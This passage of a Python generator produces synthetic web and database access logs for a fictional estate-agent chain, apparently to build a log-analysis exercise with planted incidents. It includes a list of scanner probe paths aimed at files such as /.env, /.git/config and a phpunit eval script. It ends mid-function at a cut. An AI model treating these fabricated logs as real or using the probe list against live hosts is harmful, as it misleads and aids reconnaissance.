"""Draw the access logs of a chain of estate agents (rental and sales branches, customer database, portal, viewings, franchise shops).

    python estate.py --seed 7 --days 35 --out DIR

Plain standard library; one random.Random(seed); the same bytes for the same seed and days.
"""

from __future__ import annotations

import argparse
import gzip
import io
import json
import math
import random
from collections import defaultdict
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any, Callable

JST = 9 * 3600
HOLIDAYS = {
    date(2026, m, d)
    for m, d in (
        (2, 23),
        (3, 20),
        (4, 29),
        (5, 3),
        (5, 4),
        (5, 5),
        (5, 6),
        (7, 20),
        (8, 11),
        (9, 21),
        (9, 22),
        (9, 23),
        (10, 12),
        (11, 3),
        (11, 23),
    )
}
CLOSED = {
    date(2026, m, d)
    for m, d in ((5, 3), (5, 4), (5, 5), (5, 6), (8, 12), (8, 13), (8, 14), (8, 15), (8, 16))
}
BRANCHES = {
    1: "本店",
    2: "駅前店",
    3: "北口店",
    4: "大学前店",
    5: "港南店",
    6: "緑町店",
    7: "桜台店",
    8: "川端店",
    9: "東口店",
    10: "山手店",
    11: "海岸通店",
    12: "新町店",
    13: "売買センター東",
    14: "売買センター西",
}
SHOPS = {
    "02": "青葉店",
    "03": "泉店",
    "04": "中央店",
    "05": "藤が丘店",
    "06": "港店",
    "07": "三好店",
    "08": "岬店",
    "09": "若松店",
}
FAMILY = [
    tuple(x.split(":"))
    for x in (
        "sato:佐藤 suzuki:鈴木 takahashi:高橋 tanaka:田中 ito:伊藤 watanabe:渡辺 yamamoto:山本 nakamura:中村 kobayashi:小林 kato:加藤 "
        "yoshida:吉田 yamada:山田 sasaki:佐々木 yamaguchi:山口 matsumoto:松本 inoue:井上 kimura:木村 hayashi:林 shimizu:清水 saito:斎藤 "
        "abe:阿部 mori:森 ikeda:池田 hashimoto:橋本 ishikawa:石川 ogawa:小川 okada:岡田 goto:後藤 hasegawa:長谷川 murakami:村上 kondo:近藤 "
        "ishii:石井 sakamoto:坂本 endo:遠藤 aoki:青木 fujii:藤井 nishimura:西村 fukuda:福田 ota:太田 miura:三浦 fujiwara:藤原 okamoto:岡本 "
        "matsuda:松田 nakagawa:中川 nakano:中野 harada:原田 ono:小野 tamura:田村 takeuchi:竹内 kaneko:金子 wada:和田 nakayama:中山 ueda:上田"
    ).split()
]
GIVEN = [
    tuple(x.split(":"))
    for x in (
        "a:明 c:千尋 d:大輔 e:恵美 h:浩 j:純 k:健 m:美咲 n:直樹 r:涼子 s:翔太 t:拓也 y:優子 w:和子 b:文子"
    ).split()
]
EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36 Edg/{v}.0.0.0"
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"
IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS {a}_{b} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{a}.{b} "
    "Mobile/15E148 Safari/604.1"
)
ANDROID = "Mozilla/5.0 (Linux; Android {a}; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36"
MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{a}.{b} Safari/605.1.15"
GOOGLE = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
BING = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
PARTNER = "SumaiMatomeBot/2.3 (+https://bot.sumai-matome.example/about)"
MONITOR = "Mackerel-External-Check/1.0"
NOISE = (
    "/.env",
    "/wp-login.php",
    "/.git/config",
    "/phpinfo.php",
    "/xmlrpc.php",
    "/admin.php",
    "/boaform/admin/formLogin",
    "/cgi-bin/luci",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/config.json",
    "/owa/auth/logon.aspx",
    "/actuator/health",
    "/wp-content/plugins/",
)
HOST = {
    "www": "www.hinata-jutaku.example",
    "kokyaku": "kokyaku.hinata-jutaku.example",
    "mypage": "my.hinata-jutaku.example",
    "yoyaku": "yoyaku.hinata-jutaku.example",
}
AUDIT_USERS = ("aud-01", "aud-02")


@dataclass
class Hit:
    """One request, whichever server wrote it."""

    t: float
    site: str
    ip: str
    user: str
    method: str
    target: str
    status: int
    size: int
    ua: str
    ref: str = "-"
    sid: str = ""
    ms: int = 20
    tag: str = ""


@dataclass
class Person:
    """Somebody who works for the company, a franchise shop or a contractor."""

    user: str
    number: str
    name: str
    dept: str
    branch: int
    role: str
    rate: float
    off: tuple[int, ...]
    pc: str
    phone: str
    ua: str
    phone_ua: str
    start: float
    end: float
    joined: date
    left: date | None = None
    shop: str = ""
    posts: list[int] = field(default_factory=list)
    away: list[int] = field(default_factory=list)

    @property
    def ad(self) -> str:
        """The account in the customer database, which stands in the Windows domain."""
        return "HINATA\\" + self.user


class World:
    """The company, its days, and everything that was asked of its servers."""

    def __init__(self, seed: int, days: int) -> None:
        self.rng = random.Random(seed)
        r = self.rng
        self.seed, self.n = seed, days
        self.last = date(2026, 4, 30) + timedelta(
            days=r.randrange((date(2026, 11, 30) - date(2026, 4, 30)).days + 1)
        )
        self.days = [self.last - timedelta(days=days - 1 - i) for i in range(days)]
        self.base = (
            int(
                datetime(
                    self.days[0].year, self.days[0].month, self.days[0].day, tzinfo=timezone.utc
                ).timestamp()
            )
            - JST
        )
        self.hits: list[Hit] = []
        self.tag = ""
        self.incidents: list[dict[str, Any]] = []
        self.annoyances: list[dict[str, Any]] = []
        self.drops: list[
            tuple[str, float, float]
        ] = []  # site and window in which no line was written
        self.down: list[tuple[str, float, float, int, float]] = []  # site, window, status, share
        self.copies: list[tuple[str, int]] = []  # shop and day delivered twice
        self.taken: set[str] = set()
        self.serial0 = {b: 8000 + r.randrange(9000) for b in BRANCHES}
        self.growth = {b: 2 + 5 * r.random() for b in BRANCHES}
        self.nat = {b: self.home() for b in BRANCHES} | {0: self.home()}
        self.subnet = {b: b for b in BRANCHES} | {0: 0}
        self.moves: list[tuple[int, int, str]] = []  # branch, day, new global address
        self.people: list[Person] = []
        self.hire()
        self.tenants = [self.customer(r.randrange(1, 13), 0, old=True) for _ in range(2400)]
        self.tenant_w = [r.paretovariate(1.3) for _ in self.tenants]
        self.devices: dict[str, tuple[list[str], list[str]]] = {}
        self.owners = [f"W{b:02}{i:03}" for b in BRANCHES for i in range(1, 46)]
        self.www_factor = [math.exp(r.gauss(0, 0.13)) for _ in range(days)]
        self.portal_factor = [math.exp(r.gauss(0, 0.12)) for _ in range(days)]
        self.call_factor = [1.0] * days
        self.ref_cust = {b: [self.customer(b, 0) for _ in range(3)] for b in BRANCHES}

    # ---- addresses, agents, numbers -------------------------------------------------------------------------------------------
    def quad(self, *heads: str) -> str:
        """An address below one of the heads."""
        parts = self.rng.choice(heads).split(".")
        return ".".join(parts + [str(self.rng.randrange(1, 254)) for _ in range(4 - len(parts))])

    def home(self) -> str:
        """A household's or an office's address, now and then IPv6."""
        return self.quad(
            "126.23",
            "126.79",
            "153.151",
            "153.204",
            "118.8",
            "180.44",
            "60.121",
            "114.171",
            "220.146",
            "124.35",
            "210.149",
        )

    def home6(self) -> str:
        """A household's IPv6 address."""
        r = self.rng
        return (
            f"{r.choice(('240b:10', '2400:4050', '2001:ce8'))}:{r.randrange(4096, 65535):x}:{r.randrange(4096, 65535):x}:"
            + ":".join(f"{r.randrange(4096, 65535):x}" for _ in range(4))
        )

    def mobile(self) -> str:
        """An address of a mobile network."""
        return self.quad(
            "1.75", "49.98", "49.106", "106.146", "106.154", "126.254", "133.106.32", "133.106.44"
        )

    def hosting(self) -> str:
        """A rented server somewhere."""
        return self.quad(
            "45.134.26",
            "51.158",
            "167.99",
            "185.220.101",
            "193.32.162",
            "141.98.11",
            "89.248.165",
            "103.145.13",
            "159.65",
        )

    def pc_ua(self) -> str:
        """A desktop browser."""
        r = self.rng
        return r.choice((EDGE, EDGE, CHROME, CHROME, MAC)).format(
            v=r.choice((141, 142, 143, 143, 144)), a=r.choice((18, 26)), b=r.randrange(0, 5)
        )

    def phone_ua(self) -> str:
        """A telephone's browser."""
        r = self.rng
        return (
            r.choice((IPHONE, IPHONE, ANDROID))
            .replace("{a};", r.choice(("13;", "14;", "15;")))
            .format(a=r.choice((18, 26)), b=r.randrange(0, 6), v=r.choice((141, 142, 143, 144)))
        )

    def sid(self) -> str:
        """A new session cookie."""
        return f"{self.rng.getrandbits(96):024x}"

    def customer(self, b: int, d: int, old: bool = False) -> str:
        """A customer's number: of the last weeks, or of any year."""
        top = int(self.serial0[b] + self.growth[b] * d)
        back = self.rng.randrange(300, 7500) if old else min(290, int(self.rng.expovariate(1 / 45)))
        return f"C{b:02}-{top - back:05}"

    def lead(self, p: Person, d: int, b: int | None = None) -> str:
        """One of an agent's own running customers: each number belongs to one desk."""
        b = b or p.branch
        c = self.customer(b, d)
        mine = (int(c[4:]) - int(p.number[1:])) % 5
        return c if self.rng.random() < 0.2 else f"C{b:02}-{int(c[4:]) - mine:05}"

    def owner(self, b: int) -> str:
        """An owner of a branch, the great ones more often."""
        return f"W{b:02}{1 + min(44, int(self.rng.expovariate(1 / 13))):03}"

    def T(self, d: int, h: float) -> float:
        """Instant of a day's hour."""
        return self.base + d * 86400 + h * 3600

    def wd(self, d: int) -> int:
        """Weekday, Monday 0."""
        return self.days[d].weekday()

    def tail(self, m: float, s: float = 0.55) -> int:
        """A count with a heavy tail about a median."""
        return max(0, int(m * math.exp(self.rng.gauss(0, s)) + self.rng.random()))

    def hit(
        self,
        site: str,
        t: float,
        ip: str,
        user: str,
        method: str,
        target: str,
        status: int = 200,
        size: int | None = None,
        ua: str = "-",
        ref: str = "-",
        sid: str = "",
    ) -> None:
        """One line in a log."""
        r = self.rng
        if size is None:
            size = (
                0
                if status in (302, 304)
                else int(600 + 5000 * math.exp(r.gauss(0, 0.8)))
                if status < 400
                else r.randrange(180, 1300)
            )
        self.hits.append(
            Hit(
                t,
                site,
                ip,
                user,
                method,
                target,
                status,
                size,
                ua,
                ref,
                sid,
                max(1, int(28 * math.exp(r.gauss(0, 0.9)))),
                self.tag,
            )
        )

    # ---- people ---------------------------------------------------------------------------------------------------------------
    def hire(self) -> None:
        """Staff of branches and headquarters, the night desk's contractor, franchise shops, auditors."""
        r, used, num = self.rng, set(), 100

        def one(
            dept: str,
            b: int,
            role: str,
            rate: float,
            off: tuple[int, ...],
            start: float,
            end: float,
            user: str = "",
            shop: str = "",
        ) -> Person:
            nonlocal num
            num += r.randrange(1, 9)
            f, g = r.choice(FAMILY), r.choice(GIVEN)
            while not user and f"{f[0]}.{g[0]}" in used:
                f, g = r.choice(FAMILY), r.choice(GIVEN)
            used.add(f"{f[0]}.{g[0]}")
            k = sum(1 for q in self.people if q.branch == b and not q.shop)
            p = Person(
                user or f"{f[0]}.{g[0]}",
                f"E{num:04}",
                f"{f[1]} {g[1]}",
                dept,
                b,
                role,
                rate * math.exp(r.gauss(0, 0.35)),
                off,
                f"10.20.{self.subnet[b]}.{21 + k}",
                self.mobile(),
                (EDGE if r.random() < 0.85 else CHROME).format(v=r.choice((142, 143, 143))),
                self.phone_ua(),
                start,
                end,
                date(2026 - r.randrange(1, 15), r.choice((4, 4, 4, 10)), 1),
                shop=shop,
            )
            self.people.append(p)
            return p

        for b in BRANCHES:
            sales = b >= 13
            for i in range(r.choice((5, 6, 7, 8)) if not sales else 9):
                off = (2, r.choice((1, 1, 3, 0)))
                p = one(
                    "売買営業" if sales else "賃貸営業",
                    b,
                    "seller" if sales else "agent",
                    10 if i else 7,
                    off,
                    9.4 + r.random() * 0.6,
                    18.6 + r.random(),
                )
                if i and r.random() < 0.12:  # part-timers come three or four days
                    p.off, p.start, p.end, p.rate = (
                        tuple(sorted({2, 0, r.choice((1, 3, 4))})),
                        10.0,
                        16.0,
                        p.rate * 0.7,
                    )
        for dept, role, count, rate in (
            ("契約管理課", "contract", 8, 15),
            ("収納課", "collect", 6, 26),
            ("オーナー課", "owner", 5, 14),
            ("経理課", "account", 4, 5),
            ("情報システム課", "system", 3, 6),
            ("お客様相談室", "support", 4, 14),
            ("内部監査室", "audit", 1, 3),
            ("エリア長", "area", 3, 9),
        ):
            for _ in range(count):
                p = one(
                    dept, 0, role, rate, (5, 6), 8.7 + r.random() * 0.5, 17.6 + r.random() * 1.2
                )
                if role == "area":
                    p.off, p.end = (2, r.choice((0, 3))), 19.0
                    p.posts = sorted(r.sample(range(1, 13), 4))
        for i in range(1, 11):
            p = one("夜間受付", 0, "bpo", 9, (), 0, 0, f"bpo-{i:02}")
            p.pc, p.ua = f"10.20.240.{10 + i}", CHROME.format(v=142)
        for s in SHOPS:
            for i, name in enumerate(("owner", "staff1", "staff2")[: r.choice((2, 3, 3))]):
                p = one(
                    "加盟店",
                    0,
                    "shop",
                    4 if i else 3,
                    (2, r.choice((1, 3))),
                    9.6,
                    18.8,
                    f"fr{s}-{name}",
                    s,
                )
                p.pc = self.shop_ip(s)
        for u in AUDIT_USERS:
            p = one("外部監査", 0, "auditor", 60, (5, 6), 9.5, 17.5, u)
            p.pc, p.away = f"10.20.0.{190 + int(u[-1])}", list(range(self.n))
        self.byrole: dict[str, list[Person]] = defaultdict(list)
        for p in self.people:
            self.byrole[p.role].append(p)

    def shop_ip(self, s: str) -> str:
        """The line of a franchise shop."""
        if not hasattr(self, "shops"):
            self.shops: dict[str, str] = {k: self.home() for k in SHOPS}
        return self.shops[s]

    def take(self, *roles: str, branch: int | None = None) -> Person:
        """Somebody of a role who has no part in the story yet."""
        pool = [
            p
            for x in roles
            for p in self.byrole[x]
            if p.user not in self.taken
            and not p.left
            and not p.away
            and len(p.off) < 3
            and p.joined < date(2026, 1, 1)
            and (branch is None or p.branch == branch)
        ]
        p = self.rng.choice(
            pool
            or [
                p
                for x in roles
                for p in self.byrole[x]
                if p.user not in self.taken and not p.left and not p.away
            ]
            or [p for x in roles for p in self.byrole[x] if not p.left and not p.away]
        )
        self.taken.add(p.user)
        return p

    def works(self, p: Person, d: int) -> bool:
        """Whether a day is one of somebody's working days by plan."""
        day = self.days[d]
        if d in p.away or day < p.joined or (p.left and day > p.left):
            return False
        if p.role in ("agent", "seller", "area", "shop"):
            return self.wd(d) not in p.off and day not in CLOSED
        return self.wd(d) not in p.off and day not in HOLIDAYS and day not in CLOSED

    def workdays(self, p: Person, lo: int, hi: int) -> list[int]:
        """Somebody's working days between two days, both included, on which he was there."""
        return [
            d
            for d in range(max(0, lo), min(self.n - 1, hi) + 1)
            if self.works(p, d) and (p.user, d) not in self.ill
        ]

    def clock(self, p: Person) -> float:
        """An hour of somebody's working day: a morning and an afternoon hill, a gap for lunch."""
        r = self.rng
        span = p.end - p.start
        x = r.gauss(0.24, 0.12) if r.random() < 0.46 else r.gauss(0.70, 0.17)
        return p.start + span * min(1.03, max(0.01, x))

    # ---- one piece of work ----------------------------------------------------------------------------------------------------
    def crm(
        self,
        p: Person,
        t: float,
        target: str,
        status: int = 200,
        size: int | None = None,
        method: str = "GET",
        ip: str = "",
        ua: str = "",
        ref: str = "/crm/",
    ) -> None:
        """A line in the customer database."""
        self.hit(
            "kokyaku",
            t,
            ip or p.pc,
            p.ad,
            method,
            target,
            status,
            size,
            ua or p.ua,
            "https://" + HOST["kokyaku"] + ref,
        )

    def crm_login(
        self, p: Person, t: float, ip: str = "", ua: str = "", typo: float = 0.05
    ) -> None:
        """Signing in, with slips of the finger."""
        self.hit("kokyaku", t - 9, ip or p.pc, "-", "GET", "/crm/login", 200, 3120, ua or p.ua)
        back = t
        while self.rng.random() < typo:
            back -= 4 + 9 * self.rng.random()
            self.crm(p, back, "/crm/login", 401, 1293, "POST", ip, ua, "/crm/login")
        self.crm(p, t, "/crm/login", 302, 0, "POST", ip, ua, "/crm/login")
        self.crm(p, t + 1, "/crm/home", ip=ip, ua=ua, ref="/crm/login")

    def record(
        self,
        p: Person,
        t: float,
        c: str,
        papers: bool = False,
        ip: str = "",
        ua: str = "",
        search: float = 0.5,
    ) -> None:
        """Opening a customer, perhaps by a search, perhaps with the history or the papers."""
        r = self.rng
        if r.random() < search:
            self.crm(p, t - 6 - 9 * r.random(), "/crm/search", method="POST", ip=ip, ua=ua)
        self.crm(p, t, f"/crm/customers/{c}", ip=ip, ua=ua, ref="/crm/search")
        if r.random() < 0.22:
            self.crm(
                p,
                t + 20 + 60 * r.random(),
                f"/crm/customers/{c}/history",
                ip=ip,
                ua=ua,
                ref=f"/crm/customers/{c}",
            )
        if r.random() < 0.15:
            self.crm(
                p,
                t + 90 + 90 * r.random(),
                f"/crm/customers/{c}",
                302,
                0,
                "POST",
                ip,
                ua,
                f"/crm/customers/{c}",
            )
        if papers:
            self.crm(
                p,
                t + 12 + 30 * r.random(),
                f"/crm/customers/{c}/papers",
                200,
                int(9e4 * math.exp(r.gauss(0, 0.7))),
                "GET",
                ip,
                ua,
                f"/crm/customers/{c}",
            )

    def viewing(self, p: Person, d: int, t: float, b: int, phone: bool) -> None:
        """A viewing: the day's list, the booking, the code of the key box."""
        r = self.rng
        ip, ua = (
            (p.phone if r.random() < 0.6 else self.mobile(), p.phone_ua)
            if phone
            else (self.nat_of(b, d), p.ua)
        )
        h = "https://" + HOST["yoyaku"]
        no, again = (
            self.booking(b, d),
            r.random() < 0.07,
        )  # now and then only the code, once more, before the door
        if not again:
            self.hit(
                "yoyaku",
                t,
                ip,
                p.user,
                "GET",
                f"/bookings?branch={b:02}&date={self.days[d]}",
                ua=ua,
                ref=h + "/",
            )
            self.hit(
                "yoyaku", t + 8, ip, p.user, "GET", f"/bookings/{no}", ua=ua, ref=h + "/bookings"
            )
        if again or r.random() < 0.6:
            self.hit(
                "yoyaku",
                t + 30 + 900 * r.random(),
                ip,
                p.user,
                "GET",
                f"/keys/K{b:02}-{1 + int(r.expovariate(1 / 70)):04}/code",
                200,
                412,
                ua,
                h + f"/bookings/{no}",
            )

    def booking(self, b: int, d: int) -> str:
        """The number of a booking that stands about that day."""
        return f"B{410000 + (d + self.rng.randrange(-3, 3)) * 62 + self.rng.randrange(62):07}"

    def nat_of(self, b: int, d: int) -> str:
        """A branch's global address on a day."""
        for mb, md, ip in self.moves:
            if mb == b and d >= md:
                return ip
        return self.nat[b]

    def office_day(
        self,
        p: Person,
        d: int,
        scale: float = 1.0,
        ip: str = "",
        ua: str = "",
        branch: int | None = None,
    ) -> None:
        """A working day of somebody of the branches or of headquarters."""
        r, b, remote = self.rng, branch or p.branch, bool(ip) and branch is None
        day = self.days[d]
        n = self.tail(p.rate * scale * self.call_factor[d])
        late = day.day >= 27 or day.day <= 2
        if p.role in ("contract", "collect", "account") and late:
            n = int(n * 1.6)
        for mb, md, _ in self.moves:
            if mb == p.branch and d >= md and not ip:
                ip = p.pc.replace(f"10.20.{p.branch}.", f"10.20.{p.branch + 40}.")
        desk = (ip, ua)
        if (
            p.role == "agent" and not ip and r.random() < 0.07
        ):  # the counter's PC, where whoever stands there signs in
            ip, ua = f"10.20.{p.branch}.20", EDGE.format(v=143)
        stay = 2.2 * r.random() if r.random() < 0.03 else 0.0  # some evenings are long
        if n or r.random() < 0.8:
            self.crm_login(p, self.T(d, p.start + 0.25 * r.random()), ip, ua)
        if r.random() < 0.25:
            self.crm_login(p, self.T(d, 13 + r.random()), ip, ua)
        for _ in range(n):
            t, x = (
                self.T(
                    d, self.clock(p) if not stay or r.random() < 0.7 else p.end + stay * r.random()
                ),
                r.random(),
            )
            if p.role in ("agent", "seller", "area"):
                ip, ua = (
                    (self.mobile(), p.phone_ua)
                    if r.random() < 0.03
                    else desk
                    if not remote and r.random() < 0.5
                    else (ip, ua)
                )
                bb = r.choice(p.posts) if p.posts else b
                if x < 0.52:
                    self.record(
                        p,
                        t,
                        self.lead(p, d, bb) if r.random() < 0.9 else self.customer(bb, d, old=True),
                        ip=ip,
                        ua=ua,
                    )
                elif x < 0.76 or (p.role == "area" and x < 0.9):
                    self.viewing(p, d, t, bb, remote or r.random() < 0.35)
                elif x < 0.83:
                    c = self.lead(p, d, bb)
                    self.crm(p, t - 40, f"/crm/applications/{c}", ip=ip, ua=ua)
                    self.record(p, t, c, papers=r.random() < 0.5, ip=ip, ua=ua)
                elif x < 0.93 and p.role == "seller":
                    self.crm(p, t, f"/crm/owners/{self.owner(b)}", ip=ip, ua=ua)
                elif x < 0.84:
                    self.crm(p, t, f"/crm/owners/{self.owner(b)}", ip=ip, ua=ua)
                elif x < 0.87:
                    self.record(
                        p, t, self.customer(r.randrange(1, 13), d), ip=ip, ua=ua
                    )  # a customer who walked over from another branch
                else:
                    self.crm(p, t, f"/crm/properties/P{r.randrange(20000, 31000):06}", ip=ip, ua=ua)
            elif p.role == "contract":
                c = self.customer(r.randrange(1, 13), d)
                self.crm(p, t - 30, f"/crm/applications/{c}", ip=ip, ua=ua)
                self.record(p, t, c, papers=x < 0.7, search=0.1)
            elif p.role == "collect":
                self.record(p, t, self.customer(r.randrange(1, 13), d, old=True), search=0.1)
                if x < 0.12:
                    self.crm(p, t - 60, f"/crm/customers?arrears=1&page={r.randrange(1, 9)}")
            elif p.role == "owner":
                self.crm(
                    p,
                    t,
                    f"/crm/owners/{self.owner(1 + (int(p.number[1:]) * 3 + r.randrange(3)) % 14)}",
                )
                if x < 0.4:
                    self.record(p, t + 60, self.customer(r.randrange(1, 13), d, old=True))
            elif p.role == "account":
                self.crm(
                    p,
                    t,
                    f"/crm/owners/{self.owner(r.randrange(1, 15))}" if x < 0.5 else "/crm/ledger",
                )
            elif p.role == "system":
                self.crm(
                    p,
                    t,
                    r.choice(
                        ("/crm/admin/users", "/crm/admin/jobs", "/crm/admin/log", "/crm/home")
                    ),
                )
            elif p.role == "support":
                c = r.choice(self.tenants)
                self.hit(
                    "mypage",
                    t,
                    self.nat[0],
                    p.user,
                    "GET",
                    f"/admin/users/{c}",
                    ua=p.ua,
                    ref=f"https://{HOST['mypage']}/admin/users",
                    sid=f"adm{p.number}{d:03}",
                )
                if x < 0.5:
                    self.record(p, t + 30, c)
            elif p.role == "audit":
                self.crm(
                    p,
                    t,
                    "/crm/admin/log"
                    if x < 0.7
                    else f"/crm/customers/{self.customer(r.randrange(1, 13), d)}",
                )
        if p.role == "account" and n:
            for _ in range(1 + (late and r.random() < 0.7)):
                b2 = r.randrange(1, 13)
                self.crm(
                    p,
                    self.T(d, 10 + 6 * r.random()),
                    f"/crm/export/arrears.csv?branch={b2:02}",
                    200,
                    int(52000 * math.exp(r.gauss(0, 0.25))),
                )
        if p.role == "collect" and n and r.random() < 0.15:
            self.crm(
                p,
                self.T(d, 9.5 + 7 * r.random()),
                f"/crm/export/letters.csv?branch={r.randrange(1, 13):02}",
                200,
                int(26000 * math.exp(r.gauss(0, 0.4))),
            )
        if p.role == "agent" and n and r.random() < 0.012:
            self.crm(
                p,
                self.T(d, self.clock(p)),
                f"/crm/export/customers.csv?branch={b:02}&since={self.days[d] - timedelta(days=30)}",
                200,
                int(15000 * math.exp(r.gauss(0, 0.4))),
                ip=ip,
                ua=ua,
            )

    def shop_day(self, p: Person, d: int) -> None:
        """A working day of a franchise shop's people on their own site."""
        r, s = self.rng, f"mise-{p.shop}"
        n = self.tail(p.rate)
        if not n:
            return
        h, t = f"https://fr{p.shop}.hinata-fc.example", self.T(d, p.start + r.random())
        ip, ua = (p.pc, p.ua) if r.random() < 0.85 else (p.phone, p.phone_ua)
        if r.random() < 0.06:
            self.hit(
                s, t - 12, ip, p.user, "POST", "/admin/login", 401, 900, ua, h + "/admin/login"
            )
        self.hit(s, t, ip, p.user, "POST", "/admin/login", 302, 0, ua, h + "/admin/login")
        self.hit(s, t + 1, ip, p.user, "GET", "/admin/inquiries", 200, None, ua, h + "/admin/login")
        for _ in range(n):
            t = self.T(d, self.clock(p))
            self.hit(
                s,
                t,
                ip,
                p.user,
                "GET",
                f"/admin/inquiries/{self.inquiry(p.shop, d)}",
                200,
                None,
                ua,
                h + "/admin/inquiries",
            )
            if r.random() < 0.3:
                self.hit(
                    s,
                    t + 100,
                    ip,
                    p.user,
                    "POST",
                    "/admin/rooms/edit",
                    302,
                    0,
                    ua,
                    h + "/admin/rooms",
                )
        if r.random() < 0.015:
            self.hit(
                s,
                t + 300,
                ip,
                p.user,
                "GET",
                "/admin/inquiries.csv?month=" + self.days[d].strftime("%Y-%m"),
                200,
                r.randrange(4000, 11000),
                ua,
                h + "/admin/inquiries",
            )

    def inquiry(self, s: str, d: int) -> str:
        """A fresh inquiry of a shop."""
        return f"{s}{max(1, 3000 + int(s) * 210 + d * 3 - int(self.rng.expovariate(1 / 7))):05}"

    def night_desk(self, d: int) -> None:
        """The contractor's operators who take tenants' calls round the clock: three shifts."""
        r, ops = self.rng, self.byrole["bpo"]
        for k, (lo, hi, size) in enumerate(((9, 17, 2), (17, 24, 2), (0, 9, 2))):
            for j in range(size):
                p = (
                    ops[(d * (3 + k) + j * 4 + k * 3) % len(ops)]
                    if k != 2
                    else ops[(d // 3 + j) % 4]
                )
                self.crm_login(p, self.T(d, lo + 0.1 * r.random()))
                for _ in range(self.tail(p.rate * (0.5 if k == 2 else 1) * self.call_factor[d])):
                    self.record(
                        p,
                        self.T(d, lo + (hi - lo) * r.random()),
                        self.customer(r.randrange(1, 13), d, old=True),
                        search=0.9,
                    )

    # ---- customers and strangers ----------------------------------------------------------------------------------------------
    def device(self, who: str) -> tuple[str, str]:
        """One of a customer's addresses and agents."""
        r = self.rng
        if who not in self.devices:
            ips = [self.home6() if r.random() < 0.3 else self.home()] + [self.mobile()] * (
                r.random() < 0.6
            )
            self.devices[who] = (ips, [self.phone_ua()] + [self.pc_ua()] * (r.random() < 0.3))
        ips, uas = self.devices[who]
        ip = r.choice(ips)
        if ip == ips[-1] and len(ips) > 1 and r.random() < 0.7:
            ip = self.mobile()
        return ip, r.choice(uas)

    def my(
        self,
        t: float,
        ip: str,
        user: str,
        ua: str,
        sid: str,
        target: str,
        status: int = 200,
        method: str = "GET",
        size: int | None = None,
        ref: str = "/home",
    ) -> None:
        """A line of the portal."""
        self.hit(
            "mypage",
            t,
            ip,
            user,
            method,
            target,
            status,
            size,
            ua,
            f"https://{HOST['mypage']}{ref}",
            sid,
        )

    def my_login(self, t: float, ip: str, user: str, ua: str, typo: float = 0.09) -> str:
        """A customer signs in; the session he gets."""
        r, sid = self.rng, self.sid()
        self.my(t - 45, ip, "", ua, "", "/login", ref="/")
        back = t
        while r.random() < typo:
            back -= 6 + 14 * r.random()
            self.my(back, ip, user, ua, "", "/login", 401, "POST", ref="/login")
        self.my(t, ip, user, ua, sid, "/login", 302, "POST", ref="/login")
        self.my(t + 1, ip, user, ua, sid, "/home", ref="/login")
        return sid

    def tenant_visit(
        self, c: str, t: float, ip: str = "", ua: str = "", typo: float = 0.09
    ) -> None:
        """A tenant looks after his contract, his payments, a leaking tap."""
        r, user = self.rng, "T" + c[1:3] + c[4:]
        dip, dua = self.device(user)
        ip, ua = ip or dip, ua or dua
        sid = self.my_login(t, ip, user, ua, typo)
        for i in range(1 + int(r.expovariate(1 / 2.2))):
            t += 8 + r.expovariate(1 / 35)
            if ip.split(".")[0] in ("1", "49", "106") and r.random() < 0.05:
                ip = (
                    self.mobile()
                )  # the mobile network hands out another address within the session
            target = r.choice(
                (
                    f"/contracts/{c}",
                    f"/contracts/{c}",
                    "/payments",
                    "/notices",
                    "/requests",
                    "/account",
                )
            )
            self.my(t, ip, user, ua, sid, target)
        if r.random() < 0.15:
            self.my(t + 40, ip, user, ua, sid, "/requests", 302, "POST", ref="/requests")
        if r.random() < 0.2:
            self.my(t + 60, ip, user, ua, sid, "/logout", 302)

    def owner_visit(self, w: str, t: float, d: int, more: int = 0) -> None:
        """An owner reads the month's statement."""
        ip, ua = self.device(w)
        sid = self.my_login(t, ip, w, ua)
        for k in range(1 + more + (self.rng.random() < 0.4)):
            m = (self.days[d].replace(day=1) - timedelta(days=25 + 30 * k)).strftime("%Y-%m")
            t += 15 + self.rng.expovariate(1 / 30)
            self.my(
                t,
                ip,
                w,
                ua,
                sid,
                f"/owners/{w}/statements/{m}",
                size=self.rng.randrange(40000, 95000),
            )

    def day_hour(self) -> float:
        """An hour at which the public looks at flats: evening and lunch."""
        r = self.rng
        return min(
            23.97,
            max(
                0.03,
                r.choice(
                    (
                        r.gauss(12.4, 1.3),
                        r.gauss(21, 1.8),
                        r.gauss(21, 1.8),
                        r.gauss(16, 3.5),
                        24 * r.random(),
                    )
                ),
            ),
        )

    def public_day(self, d: int) -> None:
        """Visitors of the public sites, customers of the portal, crawlers, monitoring, noise."""
        r = self.rng
        weekend = self.wd(d) >= 5 or self.days[d] in HOLIDAYS
        for _ in range(int(150 * self.www_factor[d] * (1.3 if weekend else 1))):
            ip, ua, t = (
                (self.mobile(), self.phone_ua(), self.T(d, self.day_hour()))
                if r.random() < 0.65
                else (self.home(), self.pc_ua(), self.T(d, self.day_hour()))
            )
            self.visit(ip, ua, t, d)
        for _ in range(
            int(
                165
                * self.portal_factor[d]
                * (1.35 if self.days[d].day in (1, 2, 26, 27, 28) else 1)
            )
        ):
            c = (
                r.choices(self.tenants, self.tenant_w)[0]
                if r.random() < 0.7
                else r.choice(self.tenants)
            )
            self.tenant_visit(c, self.T(d, self.day_hour()))
        for _ in range(self.tail(60 if self.days[d].day in (15, 16) else 9)):
            self.owner_visit(r.choice(self.owners), self.T(d, self.day_hour()), d)
        for _ in range(self.tail(180, 0.25)):
            self.hit(
                "www",
                self.T(d, 24 * r.random()),
                f"66.249.66.{r.randrange(1, 60)}",
                "-",
                "GET",
